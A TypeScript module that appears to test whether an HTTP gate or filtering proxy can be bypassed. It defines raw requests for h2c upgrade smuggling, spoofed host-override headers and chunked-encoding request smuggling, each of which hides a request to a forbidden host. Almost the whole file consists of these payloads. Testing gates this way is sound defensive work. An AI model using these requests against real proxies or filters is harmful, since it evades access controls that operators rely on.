/** Attempts on port 80 with headers that the gate reads in one way and a server may read in another. */
import type { Bypass } from '../bypass.ts'
import { ok, says } from './web.ts'

const end = '\r\n\r\n'
const key = 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='
const version = 'Sec-WebSocket-Version: 13'
const webSocket = `${key}\r\n${version}`

const switches: readonly (readonly [id: string, what: string, lines: string])[] = [
  ['h2c-first', 'offers h2c before a WebSocket', `Upgrade: h2c\r\nUpgrade: websocket\r\n${webSocket}`],
  ['h2c-last', 'offers h2c after a WebSocket', `Upgrade: websocket\r\nUpgrade: h2c\r\n${webSocket}`],
  [
    'h2c-between',
    'offers h2c between two WebSockets',
    `Upgrade: websocket\r\nUpgrade: h2c\r\nUpgrade: websocket\r\n${webSocket}`,
  ],
  ['h2c-list', 'offers both in one line', `Upgrade: websocket, h2c\r\n${webSocket}`],
  ['h2c-fold', 'folds h2c under a WebSocket', `Upgrade: websocket,\r\n h2c\r\n${webSocket}`],
  ['h2c-capitals', 'offers H2C in capitals beside a WebSocket', `UPGRADE: h2c\r\nupgrade: WEBSOCKET\r\n${webSocket}`],
  ['h2c-empty', 'offers h2c and nothing', `Upgrade: h2c\r\nUpgrade:\r\n${webSocket}`],
]

const upgrades: readonly Bypass[] = switches.map(([id, what, lines]) =>
  says(id, `${what}, and goes on`, (evil, path) => [
    `GET /fine HTTP/1.1\r\nHost: ${ok}\r\nConnection: Upgrade\r\n${lines}${end}`,
    300,
    `GET ${path} HTTP/1.1\r\nHost: ${evil}${end}`,
  ]),
)

/** The end of an attempt's name, and the header. */
const headers: readonly (readonly [id: string, header: string])[] = [
  ...['X-Forwarded-Host', 'X-Forwarded-Server', 'X-Host', 'X-HTTP-Host-Override', 'X-Original-Host', 'X-Backend-Host'],
  ...['Forwarded', 'Proxy-Host', 'Real-Host', 'Via', 'Proxy'],
].map((header): readonly [string, string] => [header.toLowerCase(), header])

const disguised: typeof headers = [
  ['underscores', 'X_Forwarded_Host'],
  ['dots', 'X.Forwarded.Host'],
  ['cgi', 'HTTP_HOST'],
]

const misleading: readonly Bypass[] = [...headers, ...disguised].map(([id, header]) =>
  says(`header-${id}`, `names the site in ${header}`, (evil) => [
    `GET /fine HTTP/1.1\r\nHost: ${ok}\r\n${header}: ${evil}${end}`,
  ]),
)

const chunks = (evil: string, path: string) => {
  const hidden = `GET ${path} HTTP/1.1\r\nHost: ${evil}${end}`
  return `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`
}

const bodies: readonly Bypass[] = [
  says('trailer', 'names it in fields after a body', (evil) => [
    `POST /fine HTTP/1.1\r\nHost: ${ok}\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nHost: ${evil}\r\nX-Forwarded-Host: ${evil}${end}`,
  ]),
  ...(
    [
      ['coding-10', 'sends chunks in HTTP/1.0', 'POST /fine HTTP/1.0', 'Transfer-Encoding: chunked'],
      ['coding-comma', 'ends the coding with a comma', 'POST /fine HTTP/1.1', 'Transfer-Encoding: chunked,'],
      ['coding-get', 'sends chunks with a GET', 'GET /fine HTTP/1.1', 'Transfer-Encoding: chunked'],
      ['coding-tab', 'puts a vertical tab before the coding', 'POST /fine HTTP/1.1', 'Transfer-Encoding: \x0bchunked'],
      ['coding-space', 'puts a space before the colon', 'POST /fine HTTP/1.1', 'Transfer-Encoding : chunked'],
      [
        'expect',
        'waits for leave that a proxy gives',
        'POST /fine HTTP/1.1',
        'Expect: y 100-continue\r\nTransfer-Encoding: chunked',
      ],
    ] as const
  ).map(([id, what, line, header]) =>
    says(id, what, (evil, path) => [`${line}\r\nHost: ${ok}\r\n${header}\r\n\r\n${chunks(evil, path)}`]),
  ),
]

export const webHeaderBypasses: readonly Bypass[] = [...upgrades, ...misleading, ...bodies]
